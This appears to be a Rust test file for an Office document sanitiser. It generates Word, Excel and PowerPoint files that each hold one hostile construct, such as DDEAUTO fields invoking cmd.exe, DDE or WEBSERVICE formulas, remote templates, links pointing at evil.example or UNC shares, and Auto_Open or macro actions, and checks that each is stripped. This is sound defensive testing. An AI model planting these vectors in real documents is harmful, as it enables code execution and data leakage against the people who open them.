//! Hostile documents, generated: each holds one thing that must not cross, and a text that must.

use super::*;
use crate::package::Package;
use crate::zip_writer::{Method, ZipFile};
use crate::{FontFace, markup};
use mail::PartPath;
use policy::Limits;
use std::sync::Arc;

struct Nothing;

impl Surroundings for Nothing {
    fn begin(&mut self, _: &PartPath) {}

    fn font(&mut self, _: FontFace) -> Option<(Arc<Vec<u8>>, u32)> {
        None
    }
}

const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const NAMES: &str = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main' \
    xmlns:x='http://schemas.openxmlformats.org/spreadsheetml/2006/main' \
    xmlns:p='http://schemas.openxmlformats.org/presentationml/2006/main' \
    xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main' \
    xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships' \
    xmlns:mc='http://schemas.openxmlformats.org/markup-compatibility/2006' \
    xmlns:wp='http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing' \
    xmlns:pic='http://schemas.openxmlformats.org/drawingml/2006/picture' \
    xmlns:v='urn:schemas-microsoft-com:vml' xmlns:o='urn:schemas-microsoft-com:office:office' \
    xmlns:c='http://schemas.openxmlformats.org/drawingml/2006/chart' \
    xmlns:x14='http://schemas.microsoft.com/office/spreadsheetml/2009/9/main' \
    xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main' \
    xmlns:p14='http://schemas.microsoft.com/office/powerpoint/2010/main' xmlns:evil='urn:evil'";

/// Where a piece of markup goes.
#[derive(Clone, Copy)]
enum Into {
    /// Body of a Word document.
    Body,
    /// Its settings.
    Settings,
    /// Cells of a sheet (rows).
    Rows,
    /// Behind the cells of a sheet.
    Sheet,
    /// Behind the sheets of a workbook.
    Book,
    /// Shapes of a slide.
    Shapes,
    /// Behind the shapes of a slide.
    Slide,
    /// Behind the slides of a presentation.
    Show,
}

/// A document with one thing in it.
struct Case {
    name: &'static str,
    into: Into,
    markup: &'static str,
    /// Id, end of the type, target; external where it is an address.
    relationship: Option<(&'static str, &'static str, &'static str)>,
    /// Words of which nothing may be left.
    gone: &'static [&'static str],
}

const fn case(
    name: &'static str,
    into: Into,
    markup: &'static str,
    relationship: Option<(&'static str, &'static str, &'static str)>,
    gone: &'static [&'static str],
) -> Case {
    Case { name, into, markup, relationship, gone }
}

fn add(file: &mut ZipFile, name: &str, text: &str) {
    file.add(name, text.as_bytes(), Method::Deflated).unwrap();
}

fn relationships(list: &[(&str, &str, &str)]) -> String {
    let mut text =
        "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>".to_owned();
    for (id, kind, target) in list {
        let outside = target.contains("://")
            || target.contains('\\')
            || target.starts_with("mailto:")
            || target.contains(":x");
        let mode = if outside { " TargetMode='External'" } else { "" };
        text.push_str(&format!("<Relationship Id='{id}' Type='{OFFICE}/{kind}' Target='{target}'{mode}/>"));
    }
    text.push_str("</Relationships>");
    text
}

/// Builds the document of a case; `foreign` is the part that a relationship may lead to.
fn document(case: &Case) -> Vec<u8> {
    let (main, main_type, own) = match case.into {
        Into::Body | Into::Settings => {
            ("word/document.xml", "wordprocessingml.document", "word/document.xml")
        }
        Into::Rows | Into::Sheet => ("xl/workbook.xml", "spreadsheetml.sheet", "xl/worksheets/sheet1.xml"),
        Into::Book => ("xl/workbook.xml", "spreadsheetml.sheet", "xl/workbook.xml"),
        Into::Shapes | Into::Slide => {
            ("ppt/presentation.xml", "presentationml.presentation", "ppt/slides/slide1.xml")
        }
        Into::Show => ("ppt/presentation.xml", "presentationml.presentation", "ppt/presentation.xml"),
    };
    let own = if matches!(case.into, Into::Settings) { "word/settings.xml" } else { own };
    let base = "application/vnd.openxmlformats-officedocument";
    let mut file = ZipFile::new();
    let parts = [
        (main, format!("{main_type}.main")),
        ("word/settings.xml", "wordprocessingml.settings".to_owned()),
        ("xl/worksheets/sheet1.xml", "spreadsheetml.worksheet".to_owned()),
        ("ppt/slides/slide1.xml", "presentationml.slide".to_owned()),
    ];
    let overrides: String = parts
        .iter()
        .map(|(name, kind)| format!("<Override PartName='/{name}' ContentType='{base}.{kind}+xml'/>"))
        .collect();
    add(
        &mut file,
        "[Content_Types].xml",
        &format!(
            "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Default Extension='rels' \
             ContentType='application/vnd.openxmlformats-package.relationships+xml'/><Default Extension='bin' \
             ContentType='application/vnd.ms-office.vbaProject'/><Default Extension='xml' \
             ContentType='application/xml'/>{overrides}</Types>"
        ),
    );
    add(
        &mut file,
        "_rels/.rels",
        &relationships(&[("rId1", "officeDocument", main), ("rId9", "vbaProject", "foreign.bin")]),
    );
    let mut of_main = match main {
        "word/document.xml" => vec![("rId1", "settings", "settings.xml")],
        "xl/workbook.xml" => vec![("rId1", "worksheet", "worksheets/sheet1.xml")],
        _ => vec![("rId1", "slide", "slides/slide1.xml")],
    };
    let mut of_own = Vec::new();
    if let Some(relationship) = case.relationship {
        if own == main { of_main.push(relationship) } else { of_own.push(relationship) }
    }
    add(&mut file, &crate::package::relationships::part_of(main), &relationships(&of_main));
    if !of_own.is_empty() {
        add(&mut file, &crate::package::relationships::part_of(own), &relationships(&of_own));
    }
    add_parts(&mut file, case, main);
    for name in [
        "foreign.bin",
        "word/foreign.bin",
        "xl/foreign.bin",
        "xl/worksheets/foreign.bin",
        "ppt/slides/foreign.bin",
        "word/foreign.xml",
    ] {
        file.add(name, b"<evil>foreignoctets</evil>", Method::Deflated).unwrap();
    }
    file.finish().unwrap()
}

fn add_parts(file: &mut ZipFile, case: &Case, main: &str) {
    let here = |into: Into| {
        if std::mem::discriminant(&into) == std::mem::discriminant(&case.into) { case.markup } else { "" }
    };
    match main {
        "word/document.xml" => {
            let body = here(Into::Body);
            let text = format!(
                "<w:document {NAMES}><w:body><w:p><w:r><w:t>kept</w:t></w:r></w:p>{body}</w:body></w:document>"
            );
            add(file, main, &text);
            add(
                file,
                "word/settings.xml",
                &format!("<w:settings {NAMES}>{}</w:settings>", here(Into::Settings)),
            );
        }
        "xl/workbook.xml" => {
            let sheets = "<x:sheets><x:sheet name='One' sheetId='1' r:id='rId1'/></x:sheets>";
            add(file, main, &format!("<x:workbook {NAMES}>{sheets}{}</x:workbook>", here(Into::Book)));
            let kept = "<x:row r='1'><x:c r='A1' t='inlineStr'><x:is><x:t>kept</x:t></x:is></x:c></x:row>";
            let (rows, behind) = (here(Into::Rows), here(Into::Sheet));
            let text =
                format!("<x:worksheet {NAMES}><x:sheetData>{kept}{rows}</x:sheetData>{behind}</x:worksheet>");
            add(file, "xl/worksheets/sheet1.xml", &text);
        }
        _ => {
            let slides = "<p:sldIdLst><p:sldId id='256' r:id='rId1'/></p:sldIdLst>";
            add(
                file,
                main,
                &format!("<p:presentation {NAMES}>{slides}{}</p:presentation>", here(Into::Show)),
            );
            let kept = "<p:sp><p:txBody><a:p><a:r><a:t>kept</a:t></a:r></a:p></p:txBody></p:sp>";
            let (shapes, behind) = (here(Into::Shapes), here(Into::Slide));
            let text = format!(
                "<p:sld {NAMES}><p:cSld><p:spTree>{kept}{shapes}</p:spTree></p:cSld>{behind}</p:sld>"
            );
            add(file, "ppt/slides/slide1.xml", &text);
        }
    }
}

fn run(octets: &[u8]) -> (Result<Rewritten, FindingCode>, Findings) {
    let (mut budget, mut findings) = (Budget::new(&Limits::STANDARD), Findings::new());
    let policy = Policy::standard();
    let rewritten = rebuild(octets, &policy, Fidelity::Full, &mut budget, &mut findings, &mut Nothing);
    (rewritten, findings)
}

/// Names and contents of all members.
fn everything(octets: &[u8]) -> String {
    let mut budget = Budget::new(&Limits::STANDARD);
    let mut package = Package::open(octets, &mut budget, &mut Findings::new()).unwrap();
    let names: Vec<String> = package.names().map(str::to_owned).collect();
    let mut all = String::new();
    for name in names {
        let member = package.read(&name, &mut budget).unwrap().unwrap();
        assert!(!name.ends_with(".xml") || markup_is_sound(&name, &member), "{name}");
        all.push_str(&format!("\n{name}\n{}", String::from_utf8_lossy(&member)));
    }
    all
}

fn markup_is_sound(name: &str, member: &[u8]) -> bool {
    name == "[Content_Types].xml"
        || markup::read(member, &DIALECT, &mut Budget::new(&Limits::STANDARD)).is_ok()
}

#[rustfmt::skip]
const CASES: &[Case] = &[
    // Word: parts.
    case("macros", Into::Body, "", Some(("rId7", "vbaProject", "foreign.bin")), &["vbaProject"]),
    case("an object", Into::Body, "<w:p><w:r><w:object><o:OLEObject r:id='rId7' ProgID='Package'/></w:object></w:r></w:p>", Some(("rId7", "oleObject", "foreign.bin")), &["OLEObject", "w:object", "oleObject"]),
    case("a control", Into::Body, "<w:p><w:r><w:control r:id='rId7'/></w:r></w:p>", Some(("rId7", "control", "foreign.bin")), &["control"]),
    case("altChunk", Into::Body, "<w:altChunk r:id='rId7'/>", Some(("rId7", "aFChunk", "foreign.xml")), &["altChunk", "aFChunk"]),
    case("a subdocument", Into::Body, "<w:subDoc r:id='rId7'/>", Some(("rId7", "subDocument", "http://evil.example/x.docx")), &["subDoc", "evil.example"]),
    case("a template", Into::Settings, "<w:attachedTemplate r:id='rId7'/>", Some(("rId7", "attachedTemplate", "http://evil.example/x.dotm")), &["attachedTemplate", "evil.example"]),
    case("mail merge", Into::Settings, "<w:mailMerge><w:dataSource r:id='rId7'/><w:query w:val='SELECT evil'/></w:mailMerge>", Some(("rId7", "mailMergeSource", "file:///c:/evil.mdb")), &["mailMerge", "evil"]),
    case("an XSLT", Into::Settings, "<w:saveThroughXslt r:id='rId7'/>", Some(("rId7", "transform", "http://evil.example/x.xsl")), &["evil", "Xslt"]),
    case("document variables", Into::Settings, "<w:docVars><w:docVar w:name='evil' w:val='payload'/></w:docVars>", None, &["docVar", "payload"]),
    case("revision marks", Into::Settings, "<w:rsids><w:rsidRoot w:val='00AABBCC'/></w:rsids>", None, &["AABBCC"]),
    case("update on opening", Into::Settings, "<w:updateFields w:val='true'/>", None, &["updateFields"]),
    case("custom XML", Into::Body, "<w:customXml w:uri='urn:evil' w:element='x'><w:p><w:r><w:t>inner</w:t></w:r></w:p></w:customXml>", Some(("rId7", "customXml", "foreign.xml")), &["customXml", "urn:evil"]),
    case("data binding", Into::Body, "<w:sdt><w:sdtPr><w:dataBinding w:xpath='/evil' w:storeItemID='{1}'/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>", None, &["dataBinding", "evil"]),
    case("a font file", Into::Body, "", Some(("rId7", "font", "foreign.bin")), &["/font"]),
    case("a glossary", Into::Body, "", Some(("rId7", "glossaryDocument", "foreign.xml")), &["glossary"]),
    case("web settings", Into::Body, "", Some(("rId7", "webSettings", "foreign.xml")), &["webSettings"]),
    case("a part of another type", Into::Body, "", Some(("rId7", "styles", "foreign.bin")), &["styles"]),
    case("a header that is none", Into::Body, "<w:sectPr><w:headerReference w:type='default' r:id='rId7'/></w:sectPr>", Some(("rId7", "header", "foreign.bin")), &["headerReference"]),
    case("a picture elsewhere", Into::Body, "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri='x'><pic:pic><pic:blipFill><a:blip r:link='rId7'/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>", Some(("rId7", "image", "http://evil.example/x.png")), &["evil.example", "r:link"]),
    case("a picture that is none", Into::Body, "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri='x'><pic:pic><pic:blipFill><a:blip r:embed='rId7'/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>", Some(("rId7", "image", "foreign.bin")), &["r:embed", "image"]),
    case("VML with a source", Into::Body, "<w:p><w:r><w:pict><v:shape style='width:9pt;height:9pt'><v:imagedata src='http://evil.example/a.png' o:href='file:///evil'/></v:shape></w:pict></w:r></w:p>", None, &["evil", "v:"]),
    // Word: fields.
    case("DDEAUTO", Into::Body, "<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe \"/c evil\"'><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>", None, &["DDE", "evil"]),
    case("DDE over runs", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE evil</w:instrText></w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["instrText", "fldChar", "evil"]),
    case("a verb that is built", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:instrText> evil</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["instrText", "fldChar", "evil"]),
    case("a verb that goes on", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DATE</w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>QUOTE evil</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["instrText", "evil"]),
    case("a verb with text in it", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DATE </w:instrText></w:r><w:r><w:t>x</w:t></w:r><w:ins><w:r><w:instrText>evil</w:instrText></w:r></w:ins><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["instrText", "evil"]),
    case("a revised instruction that goes on", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["nstrText", "fldChar"]),
    case("INCLUDETEXT", Into::Body, "<w:p><w:fldSimple w:instr='INCLUDETEXT \"\\\\\\\\evil\\\\x\"'/></w:p>", None, &["INCLUDE", "evil"]),
    case("INCLUDEPICTURE", Into::Body, "<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"http://evil.example/x\" \\d'/></w:p>", None, &["INCLUDE", "evil"]),
    case("LINK", Into::Body, "<w:p><w:fldSimple w:instr='LINK Excel.Sheet evil'/></w:p>", None, &["LINK", "evil"]),
    case("MACROBUTTON", Into::Body, "<w:p><w:fldSimple w:instr='MACROBUTTON Evil click'><w:r><w:t>click</w:t></w:r></w:fldSimple></w:p>", None, &["MACROBUTTON", "Evil"]),
    case("field data", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'><w:fldData>ZXZpbA==</w:fldData></w:fldChar></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["fldData", "ZXZpbA"]),
    case("an entry macro", Into::Body, "<w:p><w:r><w:fldChar w:fldCharType='begin'><w:ffData><w:entryMacro w:val='Evil'/></w:ffData></w:fldChar></w:r><w:r><w:instrText>FORMTEXT</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", None, &["entryMacro", "Evil"]),
    case("a field link to a file", Into::Body, "<w:p><w:fldSimple w:instr='HYPERLINK \"file:///c:/evil.exe\"'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>", None, &["HYPERLINK", "evil"]),
    // Word: links.
    case("a link to a file", Into::Body, "<w:p><w:hyperlink r:id='rId7'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>", Some(("rId7", "hyperlink", "file:///c:/evil.exe")), &["evil", "hyperlink"]),
    case("a link to a share", Into::Body, "<w:p><w:hyperlink r:id='rId7'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>", Some(("rId7", "hyperlink", "\\\\evil\\x")), &["evil", "hyperlink"]),
    case("a link that runs", Into::Body, "<w:p><w:hyperlink r:id='rId7'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>", Some(("rId7", "hyperlink", "ms-word:xofe|u|http://evil.example/")), &["evil", "hyperlink"]),
    case("a link with a name before the host", Into::Body, "<w:p><w:hyperlink r:id='rId7'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>", Some(("rId7", "hyperlink", "http://bank.example@evil.example/")), &["evil", "hyperlink"]),
    case("a place outside", Into::Body, "<w:p><w:hyperlink w:anchor='\\\\evil\\x'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>", None, &["evil"]),
    // Word: markup.
    case("an unknown namespace", Into::Body, "<evil:thing><w:p/></evil:thing>", None, &["evil"]),
    case("an unknown attribute", Into::Body, "<w:p evil:onload='x' onload='y' w:evil='z'/>", None, &["evil", "onload"]),
    case("a comment and an instruction", Into::Body, "<!-- evil --><?mso-application progid='Evil'?><w:p/>", None, &["evil", "mso-"]),
    case("text between elements", Into::Body, "<w:p>evil<w:r/></w:p>", None, &["evil"]),
    case("both alternatives", Into::Body, "<w:p><w:r><mc:AlternateContent><mc:Choice Requires='evil'><evil:x/></mc:Choice><mc:Fallback><w:pict><v:shape o:gfxdata='evil'/></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>", None, &["evil", "AlternateContent", "v:"]),
    // Excel.
    case("a DDE formula", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f>cmd|'/c evil'!A1</x:f><x:v>7</x:v></x:c></x:row>", None, &["evil", "<x:f"]),
    case("another book", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f>[1]Sheet1!A1</x:f><x:v>7</x:v></x:c></x:row>", None, &["[1]"]),
    case("another book by path", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f>'\\\\evil\\[b.xlsx]S'!A1</x:f><x:v>7</x:v></x:c></x:row>", None, &["evil"]),
    case("WEBSERVICE", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f>_xlfn.WEBSERVICE(\"http://evil.example/\")</x:f><x:v>7</x:v></x:c></x:row>", None, &["evil", "WEBSERVICE"]),
    case("CALL, shared", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f t='shared' si='3' ref='A2:A3'>CALL(\"evil\")</x:f><x:v>7</x:v></x:c></x:row><x:row r='3'><x:c r='A3'><x:f t='shared' si='3'/><x:v>8</x:v></x:c></x:row>", None, &["evil", "<x:f"]),
    case("a link by formula", Into::Rows, "<x:row r='2'><x:c r='A2'><x:f>HYPERLINK(\"file:///evil\",1)</x:f><x:v>1</x:v></x:c></x:row>", None, &["evil", "HYPERLINK"]),
    case("Auto_Open", Into::Book, "<x:definedNames><x:definedName name='_xlnm.Auto_Open'>Evil!$A$1</x:definedName></x:definedNames>", None, &["auto_open", "evil", "definedNames"]),
    case("a macro by name", Into::Book, "<x:definedNames><x:definedName name='evil' xlm='1' function='1'>One!$A$1</x:definedName><x:definedName name='f' function='1'>One!$A$1</x:definedName></x:definedNames>", None, &["xlm", "function"]),
    case("a macro sheet", Into::Book, "<x:extLst/>", Some(("rId7", "xlMacrosheet", "foreign.xml")), &["Macrosheet"]),
    case("external links", Into::Book, "<x:externalReferences><x:externalReference r:id='rId7'/></x:externalReferences>", Some(("rId7", "externalLink", "foreign.xml")), &["external"]),
    case("connections", Into::Book, "", Some(("rId7", "connections", "foreign.xml")), &["connections"]),
    case("a property of the book", Into::Book, "<x:fileRecoveryPr repairLoad='1'/>", None, &["fileRecovery"]),
    case("a query", Into::Sheet, "", Some(("rId7", "queryTable", "foreign.xml")), &["queryTable"]),
    case("objects on a sheet", Into::Sheet, "<x:oleObjects><x:oleObject progId='Evil' shapeId='1' r:id='rId7'/></x:oleObjects>", Some(("rId7", "oleObject", "foreign.bin")), &["ole", "evil"]),
    case("controls on a sheet", Into::Sheet, "<x:controls><x:control shapeId='1' r:id='rId7'/></x:controls>", Some(("rId7", "ctrlProp", "foreign.xml")), &["control", "ctrlProp"]),
    case("a drawing of old", Into::Sheet, "<x:legacyDrawing r:id='rId7'/>", Some(("rId7", "vmlDrawing", "foreign.xml")), &["legacyDrawing", "vml"]),
    case("printer settings", Into::Sheet, "<x:pageSetup orientation='landscape' r:id='rId7'/>", Some(("rId7", "printerSettings", "foreign.bin")), &["r:id=\"rId7\"", "printer"]),
    case("a cell link to a file", Into::Sheet, "<x:hyperlinks><x:hyperlink ref='A1' r:id='rId7'/></x:hyperlinks>", Some(("rId7", "hyperlink", "file:///c:/evil.exe")), &["evil", "hyperlink"]),
    case("a place on a share", Into::Sheet, "<x:hyperlinks><x:hyperlink ref='A1' location='\\\\evil\\x!A1'/></x:hyperlinks>", None, &["evil", "hyperlink"]),
    case("a rule that fetches", Into::Sheet, "<x:dataValidations count='1'><x:dataValidation sqref='A1'><x:formula1>WEBSERVICE(\"evil\")</x:formula1></x:dataValidation></x:dataValidations>", None, &["evil", "dataValidation"]),
    case("a format that fetches", Into::Sheet, "<x:conditionalFormatting sqref='A1'><x:cfRule type='expression' priority='1'><x:formula>[2]evil!A1</x:formula></x:cfRule></x:conditionalFormatting>", None, &["evil", "conditional"]),
    case("a sparkline from elsewhere", Into::Sheet, "<x:extLst><x:ext uri='{1}'><x14:sparklineGroups><x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>[1]evil!A1</xm:f><xm:sqref>A1</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></x:ext></x:extLst>", None, &["evil", "sparkline", "extLst"]),
    case("published items", Into::Sheet, "<x:webPublishItems count='1'><x:webPublishItem id='1' divId='evil' sourceType='sheet' destinationFile='\\\\evil\\x.htm'/></x:webPublishItems>", None, &["evil", "webPublish"]),
    case("custom properties of a sheet", Into::Sheet, "<x:customProperties><x:customPr name='evil' r:id='rId7'/></x:customProperties>", Some(("rId7", "customProperty", "foreign.bin")), &["evil", "customPr"]),
    // PowerPoint.
    case("a program by click", Into::Shapes, "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkClick r:id='rId7' action='ppaction://program'/></p:cNvPr></p:nvSpPr></p:sp>", Some(("rId7", "hyperlink", "file:///c:/evil.exe")), &["evil", "hlinkClick"]),
    case("a macro by click", Into::Shapes, "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkClick r:id='' action='ppaction://macro?name=Evil'/></p:cNvPr></p:nvSpPr></p:sp>", None, &["evil", "ppaction"]),
    case("an object by hovering", Into::Shapes, "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkHover r:id='' action='ppaction://ole?verb=0'/></p:cNvPr></p:nvSpPr></p:sp>", None, &["ppaction", "hlinkHover"]),
    case("a file by click", Into::Shapes, "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkClick r:id='rId7' action='ppaction://hlinkfile'/></p:cNvPr></p:nvSpPr></p:sp>", Some(("rId7", "hyperlink", "\\\\evil\\x")), &["evil", "hlinkClick"]),
    case("a link that never was", Into::Shapes, "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkClick r:id='rId8' invalidUrl='file:///evil'/></p:cNvPr></p:nvSpPr></p:sp>", None, &["evil", "hlinkClick"]),
    case("an object on a slide", Into::Shapes, "<p:graphicFrame><a:graphic><a:graphicData uri='ole'><p:oleObj progId='Evil' r:id='rId7'><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>", Some(("rId7", "oleObject", "foreign.bin")), &["evil", "oleObj", "graphicFrame"]),
    case("a control on a slide", Into::Slide, "<p:controls><p:control r:id='rId7' name='Evil'/></p:controls>", Some(("rId7", "control", "foreign.bin")), &["evil", "control"]),
    case("a sound between slides", Into::Slide, "<p:transition><p:sndAc><p:stSnd><p:snd r:embed='rId7' name='evil.wav'/></p:stSnd></p:sndAc></p:transition>", Some(("rId7", "audio", "foreign.bin")), &["evil", "snd"]),
    case("a film", Into::Shapes, "<p:pic><p:nvPicPr><p:cNvPr id='9' name='n'/><p:cNvPicPr/><p:nvPr><a:videoFile r:link='rId7'/></p:nvPr></p:nvPicPr></p:pic>", Some(("rId7", "video", "http://evil.example/x.mp4")), &["evil", "videoFile"]),
    case("an animation that runs an object", Into::Slide, "<p:timing><p:tnLst><p:par><p:cTn id='1'><p:childTnLst><p:cmd type='verb' cmd='0'><p:cBhvr><p:cTn id='2'/></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>", None, &["p:cmd", "p:timing"]),
    case("customer data", Into::Show, "<p:custDataLst><p:custData r:id='rId7'/></p:custDataLst>", Some(("rId7", "customXml", "foreign.xml")), &["custData", "customXml"]),
    case("embedded fonts", Into::Show, "<p:embeddedFontLst><p:embeddedFont><p:font typeface='Evil'/><p:regular r:id='rId7'/></p:embeddedFont></p:embeddedFontLst>", Some(("rId7", "font", "foreign.bin")), &["evil", "embeddedFont"]),
    case("ink", Into::Shapes, "<mc:AlternateContent><mc:Choice Requires='p14'><p:contentPart r:id='rId7'/></mc:Choice><mc:Fallback><p:pic/></mc:Fallback></mc:AlternateContent>", Some(("rId7", "customXml", "foreign.xml")), &["contentPart", "AlternateContent"]),
];

#[test]
fn what_must_not_cross_is_gone_and_the_text_is_there() {
    let mut ran = 0;
    for case in CASES {
        let (rewritten, _) = run(&document(case));
        let rewritten = rewritten.unwrap_or_else(|code| panic!("{}: {code:?}", case.name));
        let all = everything(&rewritten.octets);
        let lower = all.to_lowercase();
        assert!(all.contains("kept"), "{}: the text is lost\n{all}", case.name);
        for word in case.gone.iter().chain(&["foreign", ".bin", "vbaproject"]) {
            assert!(!lower.contains(&word.to_lowercase()), "{}: {word} is left\n{all}", case.name);
        }
        let (again, findings) = run(&rewritten.octets);
        assert_eq!(again.map(|again| again.octets), Ok(rewritten.octets), "{}", case.name);
        assert_eq!(findings.gravest(), policy::Severity::Info, "{}: {findings:?}", case.name);
        ran += 1;
    }
    assert_eq!(ran, 81);
}

#[test]
fn what_may_stay_stays() {
    let cases = [
        case(
            "a page number",
            Into::Body,
            "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>",
            None,
            &["> PAGE <"],
        ),
        case(
            "a frame of a character",
            Into::Body,
            "<w:p><w:fldSimple w:instr='eq \\o\\ac(○,印)'/></w:p>",
            None,
            &["eq \\o\\ac(○,印)"],
        ),
        case(
            "a frozen field shows its text",
            Into::Body,
            "<w:p><w:fldSimple w:instr='DDEAUTO x'><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>",
            None,
            &["shown"],
        ),
        case(
            "a link to a page",
            Into::Body,
            "<w:p><w:hyperlink r:id='rId7'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>",
            Some(("rId7", "hyperlink", "https://example.jp/a")),
            &["https://example.jp/a\" TargetMode=\"External\"", "<w:hyperlink r:id=\"rId7\">"],
        ),
        case(
            "a value without its formula",
            Into::Rows,
            "<x:row r='2'><x:c r='A2'><x:f>[1]a!A1</x:f><x:v>7</x:v></x:c></x:row>",
            None,
            &["<x:c r=\"A2\"><x:v>7</x:v></x:c>"],
        ),
        case(
            "a formula",
            Into::Rows,
            "<x:row r='2'><x:c r='A2'><x:f>SUM(A1:A1)</x:f><x:v>7</x:v></x:c></x:row>",
            None,
            &["<x:f>SUM(A1:A1)</x:f>"],
        ),
        case(
            "text of an old text box",
            Into::Body,
            "<w:p><w:r><w:pict><v:shape style='position:absolute;margin-left:9pt;width:90pt;height:40pt'><v:textbox><w:txbxContent><w:p><w:r><w:t>boxed</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
            None,
            &["wps:txbx", "boxed", "cx=\"1143000\"", "<wp:posOffset>114300<"],
        ),
        case(
            "a jump between slides",
            Into::Shapes,
            "<p:sp><p:nvSpPr><p:cNvPr id='9' name='n'><a:hlinkClick r:id='' action='ppaction://hlinkshowjump?jump=nextslide'/></p:cNvPr></p:nvSpPr></p:sp>",
            None,
            &["jump=nextslide"],
        ),
        case(
            "the picture of an object",
            Into::Shapes,
            "<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id='8' name='frame'/></p:nvGraphicFramePr><a:graphic><a:graphicData uri='ole'><p:oleObj progId='X'><p:pic><p:nvPicPr><p:cNvPr id='0' name=''/></p:nvPicPr></p:pic></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>",
            None,
            &["<p:pic><p:nvPicPr><p:cNvPr id=\"8\" name=\"frame\"/>"],
        ),
    ];
    let mut ran = 0;
    for case in &cases {
        let all = everything(&run(&document(case)).0.unwrap().octets);
        for word in case.gone {
            assert!(all.contains(word), "{}: {word} is missing\n{all}", case.name);
        }
        ran += 1;
    }
    assert_eq!(ran, 9);
}

/// A document whose changes are accepted: its body, and what is told.
fn accepted(inside: &'static str) -> (String, Findings) {
    let whole = document(&case("changes", Into::Body, inside, None, &[]));
    let mut policy = Policy::standard();
    policy.set("office_changes", "accept").unwrap();
    let (mut budget, mut findings) = (Budget::new(&Limits::STANDARD), Findings::new());
    let written = rebuild(&whole, &policy, Fidelity::Full, &mut budget, &mut findings, &mut Nothing).unwrap();
    (everything(&written.octets), findings)
}

#[test]
#[rustfmt::skip]
fn accepted_changes_leave_what_word_would() {
    // Content, what goes with it, what stays.
    let cases: &[(&str, &[&str], &[&str])] = &[
